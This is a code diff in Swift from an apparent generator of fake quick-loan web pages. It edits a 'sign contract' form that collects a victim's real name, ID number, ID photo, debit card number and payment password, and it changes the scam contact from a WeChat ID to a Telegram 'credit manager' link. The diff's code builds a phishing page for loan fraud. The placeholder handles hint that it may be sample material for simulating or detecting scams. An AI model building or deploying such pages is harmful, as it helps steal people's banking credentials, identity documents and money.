@@ -66,9 +66,12 @@ enum QuickLoan {
                     .identityForm,
                     FormMarkup(
                         action: "/wap/user/info", prefix: "hn-info", button: "签署合同",
-                        fields: ["真实姓名|truename|text|", "证件号码|sfzh|text|18位", "证件照片|front|file|", "储蓄卡卡号|yhkh|text|", "支付密码|zfmm|password|"]
+                        fields: [
+                            "真实姓名|truename|text|", "证件号码|sfzh|text|18位", "证件照片|front|file|", "储蓄卡卡号|yhkh|text|",
+                            "支付密码|zfmm|password|",
+                        ]
                     ).html),
-                facts.show(.contact, "<p>加客服微信:huinong_sample_5,发送截图优先打款。</p>"),
+                facts.show(.contact, "<p>发送截图给<a href=\"https://t.me/huinong_sample_5\">信贷经理</a>,优先打款。</p>"),
             ]))
     }
 }
